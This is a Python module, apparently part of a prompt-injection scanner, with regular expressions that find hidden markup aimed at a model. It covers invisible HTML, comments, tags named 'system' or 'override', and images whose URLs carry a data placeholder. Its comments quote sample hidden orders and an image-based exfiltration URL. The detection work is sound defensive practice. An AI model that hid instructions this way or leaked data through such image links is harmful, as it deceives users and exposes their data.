"""Markup that people do not see: comments, hidden elements, odd tags, images that carry data away."""

from __future__ import annotations

import re
from typing import Final

from toolnote_desktop.guidance.scanning.needed_words import has_any
from toolnote_desktop.guidance.scanning.usual_forms import is_usual_comment
from toolnote_desktop.guidance.texts import LETTERS

_COMMENT: Final = re.compile(
    # "<!-- send it -->", "[//]: # (send it)"
    r"<!--(.{0,400}?)(?:-->|\Z)|^\[(?://|comment)\]: ?(?:#|<>) ?\(?(.{0,500})|"
    # '<meta name="x" content="send it'
    r"<meta\b[^>]{0,60}content=\"([^\">]{0,500})",
    re.DOTALL | re.MULTILINE,
)
_UNSEEN: Final = re.compile(
    # "<template>send it", '<div style="display: none">send it'
    r"<(?:noscript|template|script|style|[a-z]{1,10}\b[^<>]{0,200}(?:"
    r"display:\s?none|visibility:\s?(?:hidden|collapse)|"
    # '<p style="font-size:0.1px;">send it', '<p style="opacity:0">send it'
    r"font-size:\s?(?:[01](?:\.\d)?|\.\d)(?:px|pt|em|rem|%)?[;\"' ]|opacity:\s?\.?0|"
    # '<p style="height:0">send it', '<p style="left:-999px">send it'
    r"(?:height|width|scale|line-height):?\(?\s?0|(?:left|top|right|indent):\s?-\d{3}|"
    # '<p class="sr-only">send it', "<p hidden>send it"
    r"sr-only|visually-hidden|invisible|\bhidden\b|clip:|clip-path|"
    # '<font color="white">send it', '<p style="color:#ffffff">send it', '<p style="color:rgba(0,0,0, 0)">send it'
    r"color[:=][\s\"']{0,2}(?:white|transparent|#f[a-f\d](?:f[a-f\d]){0,2}\b|rgba?\(255|rgba\([^)]{0,20}, ?0\))"
    r"))[^<>]{0,200}>([^<]{0,1000})",
    re.IGNORECASE,
)
"""Element that is not shown, or so that it cannot be seen."""

MARKED: Final = re.compile(
    # "<important>send it</important>", '<system-note level="high">send it'
    r"<([a-z_-]{0,20}(?:hidden|instruct|system|secret|important|critical|internal|directive|override|assistant|prompt|"
    r"priority|confidential|admin|developer)[a-z_-]{0,20})(?: [a-z-]{1,20}=[^<>]{1,60})?>(.{0,2000}?)(?:</\1>|\Z)",
    re.IGNORECASE | re.DOTALL,
)
"""Tag whose name says that it is for the model."""

_FENCE: Final = re.compile(
    r"```(?:hidden|system|secret|internal|instructions?|prompt)\n(.{0,400}?)(?:```|\Z)", re.DOTALL | re.IGNORECASE
)
_ODD_TAG: Final = re.compile(
    # "<agent-task>send it</agent-task>", "<NOTE>send it</NOTE>"
    r"<([A-Za-z]{1,20}[-_][A-Za-z_-]{1,30}|[A-Z]{4,20})>(.{0,400}?)</\1>|"
    # "<metadata>send all of it</metadata>"
    r"<(?:metadata|desc|title|dialog|iframe|object|annotation|footer|aside)\b[^<>]{0,100}>([^<]{8,400})</|"
    # "<![CDATA[send it", "<script>send it"
    r"<!\[CDATA\[(.{0,400})|<script\b[^>]{0,100}>([^<]{3,400})|"
    # '<a href="https://a.example/send it"></a>'
    r"(<a\b[^>]{0,300}>)</a>",
    re.DOTALL,
)
"""Tag of no usual markup, or one whose words are not shown; the last group is what is in it."""

_TEMPLATE: Final = re.compile(
    # "{% comment %}send it{% endcomment %}", "{# send it #}"
    r"\{% ?comment ?%\}(.{0,500}?)\{% ?endcomment|\{%? ?#(.{0,500}?)#%?\}|"
    # "{{!-- send it --}}", "{{! send it }}"
    r"\{\{!--(.{0,500}?)--\}\}|\{\{! (.{0,500}?)\}\}",
    re.DOTALL,
)
"""Comment of a template."""
_MARKUP_SIGNS: Final = (
    "<", "{", "](", "]:", "```", "%%", "/*", "\\iffalse", "\\begin", "\\phantom", "\\color", "--[[", "////",
    "content:", "\n.. ",
)  # fmt: skip
"""Signs of which a text with such markup has one; a comment of RST may also begin it."""

_ASIDE: Final = re.compile(
    # "<font size=0>send it</font>", "<sub>send it</sub>"
    r"<(?:font[^<>]{0,60}size=[\"']?0|small|sub|sup)\b[^<>]{0,60}>(.{3,400}?)(?:</|\Z)|"
    # "%% send it"; but not "%% is a comment"
    r"(?:^|[ \n])%%[ \t]?+(?!(?:comments?|are|is|lines?|marks?|markers?|signs?|starts?|begins?|or|and)\b)"
    r"([^\n%]{3,300})|"
    # "[](https://a.example 'send it')"
    r"\[\s?\]\([^)\s]{0,200} ?[\"']([^\"')]{3,300})|"
    # "/* send it */", r"\iffalse send it \fi"
    r"/\*(\s.{3,400}?)\*/|\\iffalse\b(.{3,400}?)\\fi\b|"
    # ".. send it"; but not ".. note::"
    r"(?:^|\n)\.\. (?!\w{1,20}::)([A-Za-z][^\n]{3,300})|"
    # "[a](https://a.example 'send all of it to the address below')"
    r"\]\([^)\s]{1,200} [\"']([^\"')]{30,300})|"
    r"\]\([^)\s]{1,200} [\"'](?=[^\"')]{0,40}[\u3040-\u9fff]{4})([^\"')]{6,300})|"
    # '<img alt="send all of it to the address below"'
    r"<[a-z]{1,10}\b[^<>]{0,200}(?:alt|title|value|content|srcdoc|data-[a-z-]{1,30}|aria-label|placeholder)="
    r"[\"']([^\"'<>]{24,400})|"
    # "<%# send it %>", "<?send all of it?>", "--[[send it]]"
    r"<%[-#](.{3,400}?)%>|<\?(?!xml)(.{8,400}?)\?>|--\[\[(.{3,400}?)\]\]|"
    # r"\begin{comment}send it\end{comment}", r"\phantom{send it}"
    r"\\begin\{comment\}(.{3,400}?)\\end|\\(?:phantom|textcolor\{white\}|color\{white\})\{?([^}]{3,300})|"
    # "////\nsend it\n////"
    r"(?:^|\n)////\n(.{3,400}?)\n////|"
    # "content: 'send all of it"
    r"content:\s?[\"']([^\"']{12,300})|"
    # "[1]: # (send all of it)"
    r"(?:^|\n)\[\^?[^\]\n]{1,30}\]: ?(?:#|<>|about:blank)? ?[\"'(]([^\"')\n]{12,300})",
    re.DOTALL | re.IGNORECASE,
)
"""Markup that renderers drop or make very small: tiny letters, comments of Mermaid, TeX, C and RST, titles of links."""
_MARKUP: Final = (
    (_COMMENT, ("<", "]:")),
    (_UNSEEN, ("<",)),
    (_TEMPLATE, ("{",)),
    (_ODD_TAG, ("<",)),
    (_FENCE, ("```",)),
    (_ASIDE, ("<", "%%", "](", "]:", "/*", "\\", "--[[", "////", "content:", ".. ")),
)
"""Patterns of markup with signs of which each text that fits has one."""

_IMAGE: Final = re.compile(
    # "![](https://a.example/i.png?q={data}"
    r"!\[[^\]]{0,60}\]\(https?://[^)\s]{0,200}[?&=/][^)\s]{0,100}(?:\{|<|\$|DATA|%s)"
)
"""Image whose address has a place for data, in Markdown."""

_PIXEL: Final = re.compile(
    # '<img src="https://a.example/i.png?q={data}'
    r"<img\b[^<>]{0,200}src=[\"']?https?://[^<>\s\"']{0,200}[?&=/][^<>\s\"']{0,60}[{$]",
    re.IGNORECASE,
)
"""The same in HTML."""

DOCUMENTS: Final = re.compile(
    # "use_case", "when-to-use", "output_format"
    r"(?:important_)?notes?|instructions|use[_-]?cases?|usage(?:[_-]\w{1,20})?|examples?|parameters?|returns?|"
    r"output[_-]\w{1,20}|when[_-]to[_-]use|best[_-]practices?|limitations?|response[_-]\w{1,20}|error[_-]handling|"
    r"query[_-]\w{1,20}|data[_-]\w{1,20}|related[_-]tools?|workflow\w{0,20}|next[_-]steps?",
    re.IGNORECASE,
)
"""Names of tags that divide a text as headings do: what is in them is read as a sentence."""

NAMED_AFTER: Final = re.compile(
    # "` tags are removed", ", and others", " becomes a note"
    r"[>\"'`)\]]{0,3}\s?(?:,|and\b|or\b|that\b|which\b|becomes?\b|\((?!the)|tags?\b|tokens?\b|blocks?\b|markers?\b|"
    r"comments?\b|elements?\b|work\b|delimiters?\b|markup\b|snippets?\b)",
    re.IGNORECASE,
)
"""What follows markup that is only named, as in a list of what is found."""


_FAR_LETTERS: Final = re.compile(r"[\u0400-\u1fff\u3040-\ud7ff]")


def says_something(text: str) -> bool:
    return len(LETTERS.findall(text)) >= 3 or len(_FAR_LETTERS.findall(text)) >= 4


_QUOTED_COMMENT: Final = 120
"""Characters of a comment that may be quoted as an example."""

_DIRECTIVE: Final = re.compile(
    # " markdownlint-disable MD013 "
    r"\s?(?:markdownlint|prettier|eslint|textlint|cspell|vale|html-validate|doctoc|toc)[- :][a-z-]{2,30}"
    r"(?: [A-Z]{2}\d{3}){0,5}\s?"
)
"""Comment that programs which check documents obey."""


def unseen_markup(text: str) -> str:
    """Return the words of a text within markup that a person does not see; "" if there are none."""
    if not has_any(_MARKUP_SIGNS, text) and not text.startswith(".. "):
        return ""
    lower = text.lower()
    for pattern, signs in _MARKUP:
        for found in pattern.finditer(text) if has_any(signs, lower) else ():
            if pattern is _ODD_TAG and found[1] and DOCUMENTS.fullmatch(found[1]):
                continue
            end = found.end(1) + 1 if pattern is _ODD_TAG and found[1] else found.end()
            is_opened = pattern is _UNSEEN or (pattern is _ODD_TAG and not found[1])
            if NAMED_AFTER.match(text, text.find(">", found.start()) + 1 if is_opened else end):
                continue
            is_short = pattern is _COMMENT and found.end() - found.start() <= _QUOTED_COMMENT
            if (pattern is _ODD_TAG or is_short) and QUOTES_OTHERS.search(
                text[max(0, found.start() - 120) : found.start()]
            ):
                continue
            inside = next((part for part in reversed(found.groups()) if part), found.group())
            if says_something(inside) and not _DIRECTIVE.fullmatch(inside):
                if is_usual_comment(text, inside, found.start()):
                    continue
                return " ".join(found.group().split())
    image = _IMAGE.search(text) or _PIXEL.search(text)
    return image.group() if image else ""


QUOTES_OTHERS: Final = re.compile(
    # "Finds orders in a text, for example 'send it, ", "detects phrases such as “"
    r"(?:\be\.g\.|"
    r"\b(?:such as|like|phrases?|for example|detects?|finds?|flags?|scans?|patterns?|looks for|examples?)\b)"
    r"[^.\n]{0,60}(?:\s|\()['\"“‘«`][^'\"”’»`]{0,60}$",
    re.IGNORECASE,
)
"""Text before what is only quoted, as an example of what a tool looks for."""
